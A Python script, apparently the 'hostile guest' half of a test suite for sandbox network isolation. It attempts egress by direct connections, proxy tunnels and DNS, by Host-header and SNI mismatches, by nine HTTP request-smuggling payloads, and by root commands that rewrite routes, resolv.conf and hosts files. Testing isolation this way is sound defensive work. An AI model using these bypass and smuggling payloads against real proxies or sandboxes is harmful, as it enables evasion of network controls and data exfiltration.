"""What a hostile guest does. Runs inside a sandbox, with the standard library alone: `attacker.py NAME JSON`.

Each function makes attempts and gives how they ended, as text: an answer, or the name of what was raised. It proves
nothing by itself; the listeners that were aimed at say whether anything came.
"""

import json
import socket
import ssl
import struct
import subprocess
import sys
from collections.abc import Callable

PROXY = ("10.0.2.2", 3128)
_LIMIT = 1 << 20


# --- means -------------------------------------------------------------------------------------------------------


def attempt(what: Callable[..., object], *arguments: object) -> object:
    try:
        return what(*arguments)
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"


def everything(connection: socket.socket) -> str:
    """What arrives until the other side has had enough."""
    connection.settimeout(10)
    got = b""
    try:
        while len(got) < _LIMIT and (piece := connection.recv(65536)):
            got += piece
    except OSError as exc:
        got += f"<{type(exc).__name__}>".encode()
    return got.decode("latin-1")


def tcp(host: str, port: int) -> str:
    with socket.create_connection((host, port), 5) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return connection.recv(4096).decode("latin-1")


def udp(host: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.7)
        sender.sendto(b"out", (host, port))
        return sender.recv(100).decode("latin-1")


def ping(host: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
        sender.settimeout(0.7)
        checksum = ~(0x0800 + 1 + 1) & 0xFFFF
        sender.sendto(struct.pack("!BBHHH", 8, 0, checksum, 1, 1), (host, 0))
        kind = sender.recv(100)[20]  # after the IP header: 0 is an echo's reply, 3 says that it is unreachable
        return "answered" if kind == 0 else f"error {kind}"


def other(protocol: int, host: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as sender:
        sender.sendto(b"out", (host, 0))
        return "sent"


def vsock(port: int) -> str:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect((socket.VMADDR_CID_HOST, port))
        return "connected"


def request(host: str, target: str = "/", more: str = "") -> str:
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"


def wire(text: str) -> str:
    """Bytes for the explicit proxy."""
    with socket.create_connection(PROXY, 10) as connection:
        connection.sendall(text.encode())
        return everything(connection)


def plain(authority: str) -> str:
    return wire(request(authority, f"http://{authority}/"))


def connect(authority: str) -> str:
    return wire(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\nhello\r\n\r\n")


def tunnel(target: str, server_name: str, text: str) -> str:
    """TLS for `server_name` in a tunnel to `target`, and then these bytes."""
    connection = socket.create_connection(PROXY, 10)
    connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = connection.recv(4096)
    if b" 200 " not in head.split(b"\r\n")[0]:
        return head.decode("latin-1") + everything(connection)
    context = ssl.create_default_context()
    context.check_hostname = False
    with context.wrap_socket(connection, server_hostname=server_name) as secured:
        secured.sendall(text.encode())
        return everything(secured)


def ask(server: str, name: str, kind: int, over: int = socket.SOCK_DGRAM) -> int:
    """One DNS question; gives the response code."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!xHH", kind, 1)
    with socket.socket(socket.AF_INET, over) as connection:
        connection.settimeout(3)
        connection.connect((server, 53))
        if over == socket.SOCK_STREAM:
            connection.sendall(struct.pack("!H", len(question)) + question)
            return int(connection.recv(4096)[5]) & 15
        connection.send(question)
        return int(connection.recv(4096)[3]) & 15


# --- attacks -----------------------------------------------------------------------------------------------------


def services(hosts: list[str], ports: list[int]) -> object:
    """TCP to hosts and ports: directly, by a plain request, and through a tunnel."""
    places = [(host, port) for host in hosts for port in ports]
    return {
        "direct": [attempt(tcp, host, port) for host, port in places],
        "plain": [attempt(plain, f"{host}:{port}") for host, port in places],
        "tunnel": [attempt(connect, f"{host}:{port}") for host, port in places],
    }


def spellings(authorities: list[str]) -> object:
    return {
        "plain": {authority: attempt(plain, authority) for authority in authorities},
        "tunnel": {authority: attempt(connect, authority) for authority in authorities},
    }


def dials(places: list[tuple[str, int]]) -> object:
    return [attempt(tcp, host, port) for host, port in places]


def packets(hosts: list[str], ports: list[int], vsock_port: int) -> object:
    """Everything that is not TCP on a web port."""
    six = ("fec0::2", "fe80::2%eth0", "2001:db8::1")
    return {
        "tcp": [attempt(tcp, host, port) for host in hosts for port in ports],
        "udp": [attempt(udp, host, port) for host in hosts for port in (*ports, 443)],
        "icmp": [attempt(ping, host) for host in hosts],
        "ipv6": [attempt(tcp, host, ports[0]) for host in six],
        "other": [attempt(other, protocol, host) for protocol in (47, 50, 132) for host in hosts],
        "vsock": attempt(vsock, vsock_port),
    }


def questions(servers: list[str], name: str) -> object:
    """A name asked of every server, for A, AAAA, TXT, MX, CNAME and ANY, and over TCP."""
    kinds = (1, 28, 16, 15, 5, 255)
    return {
        "codes": [attempt(ask, server, name, kind) for server in servers for kind in kinds],
        "stream": [attempt(ask, server, name, 1, socket.SOCK_STREAM) for server in servers],
        "lookup": attempt(socket.getaddrinfo, name, 443),
    }


def names(allowed: str, denied: str) -> object:
    """One name where the policy looks first, another where the server looks."""
    target = f"{allowed}:443"
    kept = f"GET / HTTP/1.1\r\nHost: {allowed}\r\n\r\n"
    inside = {
        "host": request(denied),
        "second request": kept + request(denied),
        "absolute": request(denied, f"https://{denied}/"),
        "absolute, mixed": request(allowed, f"https://{denied}/"),
        "nested": f"CONNECT {denied}:443 HTTP/1.1\r\nHost: {denied}:443\r\n\r\n",
        "two hosts": request(allowed, more=f"Host: {denied}\r\n"),
        "another port": request(f"{allowed}:8443"),
    }
    found = {name: attempt(tunnel, target, allowed, text) for name, text in inside.items()}
    second = f"GET http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\n\r\n" + request(denied, f"http://{denied}/")
    return found | {
        "server name": attempt(tunnel, target, denied, request(allowed)),
        "plain": attempt(wire, request(denied, f"http://{allowed}/")),
        "plain, second request": attempt(wire, second),
    }


def smuggling(host: str, hidden: str) -> object:
    """Requests whose end two readers see at different places."""
    head = f"POST /upload HTTP/1.1\r\nHost: {host}\r\n"
    chunks = f"0\r\n\r\n{hidden}"
    shapes = {
        "length and chunks": f"{head}Content-Length: {len(chunks)}\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}",
        "two lengths": f"{head}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
        "folded": f"{head}Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n{chunks}",
        "obscure chunks": f"{head}Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n{chunks}",
        "space before colon": f"{head}Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n{chunks}",
        "bare newlines": f"POST /upload HTTP/1.1\nHost: {host}\nContent-Length: 0\n\n{hidden}",
        "bare return": f"{head}X: a\rContent-Length: 0\r\n\r\n{hidden}",
        "negative length": f"{head}Content-Length: -1\r\n\r\n{hidden}",
        "signed length": f"{head}Content-Length: +0\r\n\r\n{hidden}",
    }
    return {name: attempt(tunnel, f"{host}:443", host, text) for name, text in shapes.items()}


def elsewhere(address: str, name: str) -> object:
    """As root: other addresses, routes, name servers and host files than those that were given."""
    moves = (
        "ip address add 10.0.2.77/24 dev eth0",
        "ip route replace default via 10.0.2.3",
        f"echo nameserver {address} >/etc/resolv.conf",
        f"echo '{address} elsewhere.example.com' >>/etc/hosts",
    )
    back = (
        "ip route replace default via 10.0.2.2",
        "ip address del 10.0.2.77/24 dev eth0",
        "echo nameserver 10.0.2.2 >/etc/resolv.conf",
        f"sed '/^{address}/d' /etc/hosts >/tmp/hosts; cat /tmp/hosts >/etc/hosts",
    )
    for move in moves:
        subprocess.run(["sh", "-c", f"PATH=$PATH:/run/sbx/bin; {move}"], capture_output=True)
    try:
        found = {
            "address": attempt(tcp, address, 9191),
            "host file": attempt(tcp, "elsewhere.example.com", 9191),
            "name": attempt(socket.gethostbyname, name),
        }
    finally:
        for move in back:
            subprocess.run(["sh", "-c", f"PATH=$PATH:/run/sbx/bin; {move}"], capture_output=True)
    return found


if __name__ == "__main__":
    print(json.dumps(globals()[sys.argv[1]](**json.loads(sys.argv[2]))))
